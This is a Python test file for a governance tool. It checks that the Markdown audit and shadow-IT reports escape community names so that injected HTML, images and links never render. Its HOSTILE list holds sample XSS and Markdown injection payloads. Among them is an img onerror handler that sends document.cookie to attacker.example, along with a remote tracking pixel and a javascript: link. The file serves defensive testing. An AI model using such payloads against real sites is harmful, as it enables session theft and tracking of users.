"""Markdown outputs (audit, shadow-IT report) show names from the tools as text: raw HTML and
remote images in a community name neither render nor load in a PR comment or a report."""

from __future__ import annotations

import re
from pathlib import Path

import pytest
from click.testing import CliRunner

from govern.cli import cli
from govern.model import Grant, Role
from govern.store import Store
from govern.virality.formats import to_markdown
from govern.virality.report import Report
from tests.policy.conftest import team, write_inventory
from tests.virality.conftest import org_store, report  # noqa: F401 - fixtures

HOSTILE = [
    '<img src=x onerror="fetch(`//attacker.example/`+document.cookie)">',
    "![tracking pixel](http://attacker.example/pixel.png)",
    "[click here](javascript:alert(1))",
    "a | b\n<script>alert(1)</script>",
]


def _outside_code(markdown: str) -> str:
    """The Markdown with code spans removed (HTML and links inside them never render)."""
    return re.sub(r"`[^`\n]*`", "", markdown)


def _assert_inert(markdown: str) -> None:
    text = _outside_code(markdown)
    assert "<img" not in text and "<script" not in text
    assert not re.search(r"(?<!\\)!?(?<!\\)\[[^\]\n]*(?<!\\)\]\(", text), "a link or image"


@pytest.mark.parametrize("name", HOSTILE, ids=["html", "image", "link", "pipe-script"])
def test_the_shadow_it_markdown_escapes_names(name: str, report: Report) -> None:  # noqa: F811
    first = report.entries[0].model_copy(
        update={"name": name, "path": name, "owners": [name], "reasons": [name]}
    )
    text = to_markdown(report.model_copy(update={"entries": [first, *report.entries[1:]]}))
    _assert_inert(text)
    assert "&lt;img" in text or "\\[" in text or "&lt;script" in text


@pytest.mark.parametrize("name", HOSTILE, ids=["html", "image", "link", "pipe-script"])
def test_the_audit_markdown_escapes_names(
    name: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, policy_copy: Path
) -> None:
    url = f"sqlite:///{tmp_path / 'inventory.db'}"
    write_inventory(url)
    store = Store(url)
    hostile = team(name.replace("\n", " "), name)
    with store.snapshot("m365", "contoso", log=lambda m: None) as w:
        w.community(hostile)
        w.grant(Grant(community_id=hostile.id, principal_id="m365:user:gina", role=Role.MEMBER))
    store.dispose()
    monkeypatch.chdir(policy_copy.parent)
    result = CliRunner().invoke(
        cli,
        ["audit", "--policies", "policies", "--format", "markdown"],
        env={"GOVERN_STORE_URL": url},
    )
    assert result.exit_code == 0, result.output
    assert "has no owner" in result.stdout  # the name is in the findings' messages
    _assert_inert(result.stdout)
